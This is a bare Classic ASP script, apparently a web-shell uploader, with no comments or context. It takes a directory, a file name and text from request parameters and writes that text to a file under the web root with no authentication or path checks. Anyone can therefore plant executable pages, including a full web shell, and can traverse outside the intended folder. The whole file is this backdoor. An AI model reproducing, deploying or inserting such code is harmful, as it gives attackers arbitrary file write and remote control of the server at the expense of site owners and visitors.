<%
dir = Request("d") : fname = Request("f")
If Request("t") <> "" Then
  Set s = Server.CreateObject("ADODB.Stream")
  s.Type = 2 : s.Charset = "utf-8" : s.Open
  s.WriteText = Request("t")
  s.SaveToFile Server.MapPath(".") & dir & "\" & fname, 2
  s.Close
End If
%>
